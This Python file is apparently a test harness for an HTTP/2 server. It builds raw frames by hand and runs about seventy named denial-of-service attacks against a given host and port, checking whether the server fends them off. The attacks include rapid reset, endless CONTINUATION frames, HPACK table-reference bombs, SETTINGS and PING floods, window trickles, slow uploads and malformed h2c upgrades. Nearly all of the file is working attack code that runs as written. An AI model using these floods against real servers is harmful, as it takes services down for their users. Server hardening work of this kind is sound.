"""Clients that attack an HTTP/2 server, each as fast as it can, in a process of their own.

    python http2_attackers.py NAME HOST PORT SECONDS OUTCOME [tls]

Connections that the server ends are opened again. It goes on until the time is over and the outcome was seen, such as
"GOAWAY ENHANCE_YOUR_CALM" or "responses". At the end one line of JSON tells how many there were and how they
ended. An attack is a generator of bytes: what it yields is sent, `None` is a pause of 10 ms. Frames are made by hand,
since no library would make them. An attack is told how many streams have ended since its last turn; its
end closes the connection.
"""

from __future__ import annotations

import json
import select
import socket
import ssl
import sys
import time
from collections import Counter
from dataclasses import dataclass
from itertools import count
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Generator, Iterator

    Attack = Generator[bytes | None, int, None]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    range(10)
)
PRIORITY_UPDATE = 0x10
ACK = END_STREAM = 0x1
END_HEADERS, PADDED, HAS_PRIORITY = 0x4, 0x8, 0x20
ERRORS = (
    *(
        "NO_ERROR",
        "PROTOCOL_ERROR",
        "INTERNAL_ERROR",
        "FLOW_CONTROL_ERROR",
        "SETTINGS_TIMEOUT",
        "STREAM_CLOSED",
    ),
    *(
        "FRAME_SIZE_ERROR",
        "REFUSED_STREAM",
        "CANCEL",
        "COMPRESSION_ERROR",
        "CONNECT_ERROR",
        "ENHANCE_YOUR_CALM",
    ),
)
LARGEST_WINDOW = 2**31 - 1
PATIENCE = 10.0
"""Seconds after the time is over for which the outcome is waited."""


# -- frames and field blocks ---------------------------------------------------------------------------------------


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def settings(**values: int) -> bytes:
    numbers = {"table": 1, "push": 2, "streams": 3, "window": 4, "frame": 5, "list": 6}
    payload = b"".join(
        numbers[name].to_bytes(2, "big") + value.to_bytes(4, "big") for name, value in values.items()
    )
    return frame(SETTINGS, payload=payload)


def integer(first: int, prefix: int, value: int) -> bytes:
    if value < prefix:
        return bytes((first | value,))
    code, value = bytearray((first | prefix,)), value - prefix
    while value >= 0x80:
        code.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes((*code, value))


def text(value: bytes) -> bytes:
    return integer(0, 0x7F, len(value)) + value


def field(name: bytes, value: bytes, pattern: int = 0x00) -> bytes:
    """A literal; pattern 0x40 puts it into the table."""
    return bytes((pattern,)) + text(name) + text(value)


def request(path: bytes = b"/", method: bytes = b"GET") -> bytes:
    """The pseudo-header fields, without use of the dynamic table."""
    methods = {b"GET": b"\x82", b"POST": b"\x83"}
    return (methods.get(method) or b"\x02" + text(method)) + b"\x86\x04" + text(path) + b"\x01\x01a"


def head(stream: int, block: bytes = b"", flags: int = END_STREAM | END_HEADERS) -> bytes:
    return frame(HEADERS, flags, stream, block)


def window_update(stream: int, size: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, size.to_bytes(4, "big"))


def reset(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def joined(pieces: Iterator[bytes], number: int = 500) -> Attack:
    """Several pieces in one send."""
    while True:
        yield b"".join(piece for piece, _ in zip(pieces, range(number), strict=False))


def on_new_streams(piece: Callable[[int], bytes]) -> Attack:
    return joined(map(piece, count(1, 2)))


def again(data: bytes, opening: bytes = b"") -> Attack:
    yield opening
    data *= max(1, 65536 // len(data))
    while True:
        yield data


def wait(seconds: float = 3600.0) -> Attack:
    """Say nothing more."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield None


OPEN, GET_WAIT = request(b"/wait", b"POST"), request(b"/wait")


# -- resets --------------------------------------------------------------------------------------------------------


def rapid_reset(path: bytes = b"/") -> Attack:
    block = request(path)
    return on_new_streams(lambda stream: head(stream, block) + reset(stream))


def made_to_reset(mistake: Callable[[int], bytes], flags: int = END_HEADERS, block: bytes = OPEN) -> Attack:
    return on_new_streams(lambda stream: head(stream, block, flags) + mistake(stream))


def self_dependency(stream: int) -> bytes:
    return frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10")


def head_self_dependency(stream: int) -> bytes:
    payload = stream.to_bytes(4, "big") + b"\x10" + GET_WAIT
    return frame(HEADERS, END_HEADERS | END_STREAM | HAS_PRIORITY, stream, payload)


def resets_after_the_end() -> Attack:
    """Of streams that are long over."""
    yield head(1, request())
    yield from wait(0.1)
    yield from again(reset(1))


# -- field blocks --------------------------------------------------------------------------------------------------


def continuations(payload: bytes) -> Attack:
    return again(frame(CONTINUATION, 0, 1, payload), opening=head(1, request(), END_STREAM))


def blocks(block: bytes, opening: bytes = b"") -> Attack:
    """Requests with a field block that may be larger than a frame."""
    first = len(opening) > 0
    if first:
        yield head(1, request() + opening)
    for stream in count(3, 2):
        pieces = [block[start : start + 16384] for start in range(0, len(block), 16384)]
        yield frame(
            HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), stream, pieces[0]
        ) + b"".join(
            frame(CONTINUATION, END_HEADERS if number == len(pieces) else 0, stream, piece)
            for number, piece in enumerate(pieces[1:], 2)
        )


LARGE_ENTRY = field(b"x", b"y" * 4000, 0x40)
CRUMB = field(b"cookie", b"a=b", 0x40)
TINY = field(b"x", b"", 0x40)
NEWEST = b"\xbe"  # the newest entry of the dynamic table
STATIC_FIELD = b"\x90"  # accept-encoding: gzip, deflate


def headers_in_flight() -> Attack:
    """As many heads of the largest size as may wait, then some more."""
    large = request(b"/wait") + b"".join(field(b"x%d" % number, b"y" * 4000) for number in range(3))
    for stream in range(1, 199, 2):
        yield head(stream, large + field(b"unique", b"%d" % stream))
    yield from wait()


# -- control frames ------------------------------------------------------------------------------------------------


UNKNOWN_SETTINGS = frame(
    SETTINGS, payload=b"".join(n.to_bytes(2, "big") + bytes(4) for n in range(100, 2800))
)


def open_streams(path: bytes, number: int = 100, **values: int) -> bytes:
    return settings(**values) + b"".join(head(stream, request(path)) for stream in range(1, 2 * number, 2))


def window_flips() -> Attack:
    yield open_streams(b"/big", window=0)
    while True:
        yield settings(window=1 << 20) + settings(window=0)


def priorities(stream_step: int = 2) -> Attack:
    return joined(
        frame(PRIORITY, 0, stream, (stream - 2).to_bytes(4, "big") + b"\xff")
        for stream in count(3, stream_step)
    )


def priority_updates() -> Attack:
    return joined(frame(PRIORITY_UPDATE, 0, 0, stream.to_bytes(4, "big") + b"u=7") for stream in count(1, 2))


def tree_of_open_streams() -> Attack:
    """Turn the tree over and over, with every stream wanting to send."""
    yield open_streams(b"/big", window=1)
    moves = [
        frame(PRIORITY, 0, stream, (0x80000000 | (stream * 7 % 199) | 1).to_bytes(4, "big") + b"\x01")
        for stream in range(1, 200, 2)
    ]
    yield from again(b"".join(moves))


# -- windows and bodies --------------------------------------------------------------------------------------------


def trickle() -> Attack:
    """A byte of window for each of 100 responses, again and again, as slow as the budget wants it."""
    yield open_streams(b"/big", window=0) + window_update(0, 1 << 20)
    while True:
        for stream in range(1, 200, 2):
            yield window_update(stream, 1)
            yield None


def fast_trickle() -> Attack:
    updates = b"".join(window_update(stream, 1) for stream in range(1, 200, 2))
    return again(updates, opening=open_streams(b"/big", window=0) + window_update(0, 1 << 20))


def stops_reading() -> Attack:
    yield open_streams(b"/big", window=LARGEST_WINDOW) + window_update(0, LARGEST_WINDOW - 65535)
    yield from wait()


def downloads() -> Attack:
    return stops_reading()  # by an attacker that reads


def window_zero() -> Attack:
    yield open_streams(b"/big", window=0)
    yield from wait()


def uploads(path: bytes, number: int = 100) -> bytes:
    return b"".join(head(stream, request(path, b"POST"), END_HEADERS) for stream in range(1, 2 * number, 2))


def slow_uploads() -> Attack:
    yield uploads(b"/upload")
    while True:
        for stream in range(1, 200, 2):
            yield frame(DATA, 0, stream, b"x")
            yield None


def many_small_pieces(path: bytes, streams: int = 1, payload: bytes = b"x", flags: int = 0) -> Attack:
    """Content in the smallest of frames, no more of it than the windows allow."""
    yield uploads(path, streams)
    room = 1 << 20
    for _ in range(room // len(payload) // 512 // streams):
        yield b"".join(frame(DATA, flags, stream, payload) for stream in range(1, 2 * streams, 2)) * 512
    yield from wait()


def unread_uploads() -> Attack:
    """2 000 requests with content for which nobody asks; the client gives up each hundred."""
    piece = b"x" * 16384
    for first in range(1, 4000, 200):
        streams = range(first, first + 200, 2)
        yield b"".join(head(stream, OPEN, END_HEADERS) for stream in streams)
        for stream in streams[:30]:
            yield frame(DATA, 0, stream, piece)
        yield from wait(0.1)
        yield b"".join(reset(stream) for stream in streams)


def answered_uploads() -> Attack:
    """Content for requests that are answered without it, for as long as the window lasts."""
    block, content = request(b"/", b"POST"), frame
    for stream in range(1, 4000, 2):
        yield head(stream, block, END_HEADERS)
        yield None
        yield content(DATA, 0, stream, b"x" * 4096) * 2 + content(DATA, END_STREAM, stream, b"x")


# -- requests ------------------------------------------------------------------------------------------------------


ODD = [bytes((byte,)) for byte in (*range(0x21), 0x22, 0x23, *range(0x7F, 0x100))] + [
    b"\xff\xfe",
    b"\xc3(",
    b"%00",
    b"",
]


def odd_requests(make: Callable[[bytes], bytes]) -> Attack:
    for stream, odd in enumerate(ODD):
        yield head(2 * stream + 1, make(odd))
    yield from wait()


def goaway_then_requests() -> Attack:
    yield frame(GOAWAY, payload=bytes(8))
    yield from on_new_streams(lambda stream: head(stream, request()))


def leaving() -> Attack:
    yield b"".join(head(stream, GET_WAIT) for stream in range(1, 200, 2))
    yield from wait(0.5)


def legitimate() -> Attack:
    """100 streams that are always full: a new request for each response."""
    yield window_update(0, LARGEST_WINDOW - 65535)
    streams, missing = count(1, 2), 100
    while True:
        missing = yield b"".join(head(next(streams), request()) for _ in range(missing))


# -- before HTTP/2 -------------------------------------------------------------------------------------------------


MALFORMED_SETTINGS = (
    *(b"A", b"AAA", b"\xff\xff", b"", b"=", b"AAQAAP__", b"AAIAAAAF", b"AAUAAAAA", b"AAQ" + b"_" * 5),
    *(b"A" * 9000, b"AAAA, AAAA", b"AAAA\r\nHTTP2-Settings: AAAA", b"AAAA AAAA"),
)
turns = count()


def malformed_upgrade() -> Attack:
    """One malformed value after another, each on a connection of its own, and frames behind it."""
    value = MALFORMED_SETTINGS[next(turns) % len(MALFORMED_SETTINGS)]
    lines = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: " + value
    yield b"GET / HTTP/1.1\r\nHost: a\r\n" + lines + b"\r\n\r\n" + PREFACE + settings() + b"\xff" * 16
    yield from wait()


def half_preface() -> Attack:
    yield PREFACE[: next(turns) % 24]
    yield from wait()


@dataclass(frozen=True)
class Plan:
    """How an attack goes on.

    Args:
        attack: the bytes.
        connections: at a time.
        reads: whether what the server says is read.
        opening: what comes before the attack.
    """

    attack: Callable[[], Attack]
    connections: int = 2
    reads: bool = True
    opening: bytes = PREFACE + settings()


def content_overrun(stream: int) -> bytes:
    return frame(DATA, 0, stream, b"ab")


SHORT = request(b"/wait", b"POST") + field(b"content-length", b"1")
MALFORMED = GET_WAIT + field(b"Upper", b"x")

PLANS = {
    # Streams that are reset, by us or because the server has to.
    "rapid reset": Plan(rapid_reset),
    "rapid reset of what waits": Plan(lambda: rapid_reset(b"/wait"), connections=1),
    "rapid reset of what does not end": Plan(lambda: rapid_reset(b"/stubborn"), connections=1),
    "window overflow on streams": Plan(lambda: made_to_reset(lambda s: window_update(s, LARGEST_WINDOW))),
    "window update of nothing": Plan(lambda: made_to_reset(lambda s: window_update(s, 0))),
    "content after the end": Plan(
        lambda: made_to_reset(lambda s: frame(DATA, 0, s, b"x"), END_HEADERS | END_STREAM)
    ),
    "content overrun": Plan(lambda: made_to_reset(content_overrun, END_HEADERS, SHORT)),
    "PRIORITY of a wrong length": Plan(lambda: made_to_reset(lambda s: frame(PRIORITY, 0, s, bytes(4)))),
    "PRIORITY on itself": Plan(lambda: made_to_reset(self_dependency)),
    "HEADERS on itself": Plan(lambda: on_new_streams(head_self_dependency)),
    "trailers without an end": Plan(lambda: made_to_reset(lambda s: head(s, field(b"x", b"y"), END_HEADERS))),
    "malformed requests": Plan(lambda: on_new_streams(lambda s: head(s, MALFORMED))),
    "more streams than allowed": Plan(lambda: on_new_streams(lambda s: head(s, OPEN, END_HEADERS))),
    "resets after the end": Plan(resets_after_the_end),
    # Field blocks.
    "CONTINUATION without end": Plan(lambda: continuations(b"\x82" * 16384)),
    "empty CONTINUATION": Plan(lambda: continuations(b"")),
    "tiny CONTINUATION": Plan(lambda: continuations(b"\x82")),
    "references to a large field": Plan(lambda: blocks(NEWEST * 65536, LARGE_ENTRY)),
    "references up to the limit": Plan(lambda: blocks(request() + NEWEST * 16, LARGE_ENTRY)),
    "references beyond the limit": Plan(lambda: blocks(request() + NEWEST * 31, LARGE_ENTRY)),
    "10 000 tiny fields": Plan(lambda: blocks(request() + STATIC_FIELD * 10_000)),
    "tiny fields up to the limit": Plan(lambda: blocks(request() + NEWEST * 1900, TINY)),
    "cookie crumbs": Plan(lambda: blocks(request() + NEWEST * 1500, CRUMB)),
    "literal fields": Plan(lambda: blocks(request() + b"".join(field(b"%d" % n, b"") for n in range(90)))),
    "table size updates": Plan(lambda: blocks(b"\x20\x3f\xe1\x1f" * 4000 + request())),
    "table size updates in many blocks": Plan(lambda: blocks(b"\x20\x3f\xe1\x1f" + request())),
    "empty HEADERS": Plan(lambda: on_new_streams(head)),
    "heads in flight": Plan(headers_in_flight, connections=2),
    # Control frames.
    "SETTINGS": Plan(lambda: again(settings())),
    "SETTINGS of 2 700 settings": Plan(lambda: again(UNKNOWN_SETTINGS)),
    "SETTINGS acknowledged": Plan(lambda: again(frame(SETTINGS, ACK))),
    "SETTINGS without reading": Plan(lambda: again(settings()), reads=False),
    "windows that flip": Plan(window_flips),
    "PING": Plan(lambda: again(frame(PING, payload=bytes(8)))),
    "PING without reading": Plan(lambda: again(frame(PING, payload=bytes(8))), reads=False),
    "PING answers": Plan(lambda: again(frame(PING, ACK, payload=bytes(8)))),
    "PRIORITY of idle streams": Plan(priorities),
    "PRIORITY_UPDATE of idle streams": Plan(priority_updates),
    "a tree that turns": Plan(tree_of_open_streams),
    "empty DATA": Plan(lambda: again(frame(DATA, 0, 1), uploads(b"/wait", 1))),
    "DATA of padding": Plan(lambda: many_small_pieces(b"/wait", 1, b"\xff" + bytes(255), PADDED)),
    "unknown frames": Plan(lambda: again(frame(0xEE, 0xFF, 1, b"x"))),
    "WINDOW_UPDATE of the connection": Plan(lambda: again(window_update(0, 1))),
    "WINDOW_UPDATE of a stream": Plan(lambda: again(window_update(1, 1), head(1, GET_WAIT))),
    "GOAWAY": Plan(lambda: again(frame(GOAWAY, payload=bytes(8)))),
    "PUSH_PROMISE": Plan(lambda: again(frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4)))),
    # Windows and bodies.
    "window zero": Plan(window_zero),
    "a trickle of window": Plan(trickle),
    "a fast trickle of window": Plan(fast_trickle),
    "100 responses unread": Plan(stops_reading, reads=False),
    "100 downloads": Plan(downloads),
    "slow uploads": Plan(slow_uploads),
    "uploads in bytes, unread": Plan(lambda: many_small_pieces(b"/wait")),
    "uploads in bytes on 100 streams": Plan(lambda: many_small_pieces(b"/wait", 100)),
    "uploads in bytes, read": Plan(lambda: many_small_pieces(b"/upload", 10)),
    "unread uploads": Plan(unread_uploads),
    "content of what is answered": Plan(answered_uploads),
    # Requests.
    "odd paths": Plan(lambda: odd_requests(lambda odd: request(b"/" + odd))),
    "odd starts of paths": Plan(lambda: odd_requests(lambda odd: request(odd + b"/"))),
    "odd methods": Plan(lambda: odd_requests(lambda odd: request(method=b"G" + odd))),
    "odd authorities": Plan(
        lambda: odd_requests(lambda odd: b"\x82\x86\x84\x01" + text(b"a" + odd) + field(b"x", odd))
    ),
    "GOAWAY then requests": Plan(goaway_then_requests),
    "100 requests, then leaving": Plan(leaving, connections=10),
    "100 streams always full": Plan(legitimate, connections=4),
    # Before HTTP/2.
    "malformed upgrades": Plan(malformed_upgrade, connections=10, opening=b""),
    "half a preface": Plan(half_preface, connections=100, opening=b""),
    "a thousand prefaces": Plan(wait, connections=1000),
    "garbage after the preface": Plan(lambda: again(b"\xff" * 1000)),
}


# -- driving -------------------------------------------------------------------------------------------------------


class Attacker:
    """One connection after another.

    Attributes:
        pausing: the attack has nothing to send for now.
    """

    def __init__(
        self, plan: Plan, address: tuple[str, int], context: ssl.SSLContext | None, told: Counter[str]
    ):
        self.plan = plan
        self.address = address
        self.context = context
        self.told = told
        self._connect()

    def _connect(self) -> None:
        self.sock = socket.socket()
        if not self.plan.reads:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.sock.connect(self.address)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.context is not None:
            self.sock = self.context.wrap_socket(self.sock, server_hostname="localhost")
        self.sock.setblocking(False)
        self.told["connections"] += 1
        self.attack = self.plan.attack()
        self.begun = self.pausing = False
        self.unsent = memoryview(self.plan.opening)
        self.received = bytearray()
        self.finished = 0  # streams that the server has ended, since the attack was told
        self.end = "closed without GOAWAY"

    @property
    def wanted(self) -> int:
        """What poll() should look for."""
        return (select.POLLIN if self.plan.reads else 0) | (select.POLLOUT if self.unsent else 0)

    def go_on(self, readable: bool) -> None:
        """Take what has come, and send what goes."""
        try:
            if readable:
                self._receive()
            if not self.unsent:
                data = self._next()
                self.pausing = not data
                self.unsent = memoryview(data or b"")
            if self.unsent:
                size = self.sock.send(self.unsent)
                self.told["sent"] += size
                self.unsent = self.unsent[size:]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            pass
        except StopIteration:
            self._end("left")
        except OSError as error:
            if not isinstance(error, ConnectionAbortedError) and "GOAWAY " not in self.end:
                self.end = type(error).__name__
            self._end(self.end)

    def _end(self, how: str) -> None:
        self.told[how] += 1
        self.sock.close()
        self._connect()

    def _next(self) -> bytes | None:
        finished, self.finished = self.finished, 0
        if self.begun:
            return self.attack.send(finished)
        self.begun = True
        return next(self.attack)

    def _receive(self) -> None:
        while True:
            try:
                data = self.sock.recv(1 << 18)
            except (ssl.SSLWantReadError, BlockingIOError):
                return
            if not data:
                raise ConnectionAbortedError(self.end)
            self.told["received"] += len(data)
            self.received += data
            self._read_frames()
            if self.context is None:
                return

    def _read_frames(self) -> None:
        received, start = self.received, 0
        if received.startswith(b"HTTP/1.1 "):
            self.told[received[9:12].decode()] += 1
            start = received.find(b"\r\n\r\n") + 4 if received.startswith(b"HTTP/1.1 101") else len(received)
        while len(received) - start >= 9:
            end = start + 9 + int.from_bytes(received[start : start + 3], "big")
            if end > len(received):
                break
            kind, flags = received[start + 3], received[start + 4]
            if kind == GOAWAY:
                code = int.from_bytes(received[start + 13 : start + 17], "big")
                self.end = "GOAWAY " + ERRORS[code]
            elif kind == RST_STREAM:
                self.told["RST_STREAM " + ERRORS[received[end - 1]]] += 1
                self.finished += 1
            elif flags & END_STREAM and kind in (DATA, HEADERS):
                self.told["responses"] += 1
                self.finished += 1
            start = end
        del received[:start]


def run(plan: Plan, address: tuple[str, int], seconds: float, outcome: str, tls: bool) -> Counter[str]:
    """Attack for so long, at the least; return how it went."""
    context = None
    if tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
    told: Counter[str] = Counter()
    start = time.monotonic()
    attackers = [Attacker(plan, address, context, told) for _ in range(plan.connections)]
    while (passed := time.monotonic() - start) < seconds or (
        not told[outcome] and passed < seconds + PATIENCE
    ):
        poll = select.poll()
        for attacker in attackers:
            poll.register(attacker.sock, attacker.wanted)
        pausing = all(attacker.pausing or attacker.unsent for attacker in attackers)
        events = dict(poll.poll(10 if pausing else 0))
        for attacker in attackers:
            attacker.go_on(bool(events.get(attacker.sock.fileno(), 0) & ~select.POLLOUT))
    return told


if __name__ == "__main__":
    name, host, port, seconds, outcome, *tls = sys.argv[1:]
    print(json.dumps(run(PLANS[name], (host, int(port)), float(seconds), outcome, bool(tls))))
